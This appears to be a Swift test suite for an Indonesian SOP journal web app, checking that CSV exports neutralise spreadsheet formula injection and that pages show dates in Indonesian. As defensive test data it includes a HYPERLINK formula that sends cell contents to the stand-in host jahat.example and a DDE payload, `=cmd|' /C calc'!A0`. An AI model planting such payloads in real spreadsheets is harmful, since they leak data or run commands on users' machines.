import Foundation
import Hummingbird
import HummingbirdTesting
import Testing
@testable import SOPJournal
@testable import SOPKit
@testable import SOPWeb

/// The report's CSV made safe for spreadsheets, and the case pages' dates in Indonesian.
@Suite("sop serve: CSV cells and Indonesian dates")
struct CSVAndDatesTests {
    static let hostile = ["=HYPERLINK(\"http://jahat.example/?x=\"&A1,\"klik\")", "+1+1", "-2+3", "@SUM(1,1)", "\tTAB", "\rCR", "=\u{301}1+1"]

    @Test("a cell a spreadsheet would run as a formula gets a leading quote; quoting as RFC 4180", arguments: hostile)
    func guarded(_ text: String) {
        let cell = CSVCell.text(text)
        let inner = cell.hasPrefix("\"") ? String(cell.dropFirst()) : cell
        #expect(inner.hasPrefix("'"), "\(cell.debugDescription) would start a formula")
    }

    @Test("ordinary text, numbers written by the program and the '-' for none are left as they are")
    func ordinary() {
        #expect(CSVCell.text("perintah-spt") == "perintah-spt")
        #expect(CSVCell.text("3 hari kerja") == "3 hari kerja")
        #expect(CSVCell.text("a, b") == "\"a, b\"")
        #expect(CSVCell.text("=\"x\"") == "\"'=\"\"x\"\"\"")
        #expect(CSVCell.text("") == "")
        #expect(CSVCell.quoted("-") == "-")
    }

    /// The loader refuses such names and standards today (ids are `[a-z0-9][a-z0-9_-]*`, a waktu
    /// starting with `=` is SOP401), so the report is built by hand: the guard holds at the file's
    /// edge whatever the loader lets through tomorrow.
    @Test("the report's CSV (sop report and the web download) guards a hostile step name, SOP id and standard")
    func reportCSV() {
        var report = ComplianceReport(cases: [], from: nil, to: nil)
        report.lines = [ComplianceReport.Line(kind: "step", sopID: "@SOP", name: "=cmd|' /C calc'!A0", count: 2, standard: "-1 hari",
                                              standardMinutes: 60, medianMinutes: 30, worstMinutes: 90, onTime: 1),
                        ComplianceReport.Line(kind: "performer", sopID: "sop", name: "kasi", count: 1, standard: nil,
                                              standardMinutes: nil, medianMinutes: 5, worstMinutes: 5, onTime: 1)]
        let rows = report.csv().split(separator: "\n").map(String.init)
        #expect(rows[1] == "step,'@SOP,'=cmd|' /C calc'!A0,2,'-1 hari,60,30,90,1,0.50")
        #expect(rows[2] == "performer,sop,kasi,1,-,-,5,5,1,1.00")
    }

    @Test("the case page and Tugas saya show dates as the command line does in Indonesian, in the office's zone")
    func indonesianDates() async throws {
        let f = try WebFixture(users: [("sari", ["kasi"])])
        try await f.test { b in
            try await b.login("sari")
            let id = try await RouteTests.openCase(b)
            let page = try await b.get("/kasus/\(id)")
            // Opened at the fixture's clock: Monday 6 January 2025, 08.00 in Jakarta.
            #expect(page.text.contains("Senin, 6 Januari 2025 pukul 08.00"))
            #expect(!page.text.contains("2025-01-06T"), "an ISO date is left on the case page")
            let tasks = try await b.get("/tugas")
            #expect(!tasks.text.contains("2025-01-0"), "an ISO date is left in Tugas saya")
            let cases = try await b.get("/kasus")
            #expect(cases.text.contains("Senin, 6 Januari 2025 pukul 08.00") && !cases.text.contains("2025-01-06T"))
        }
    }
}
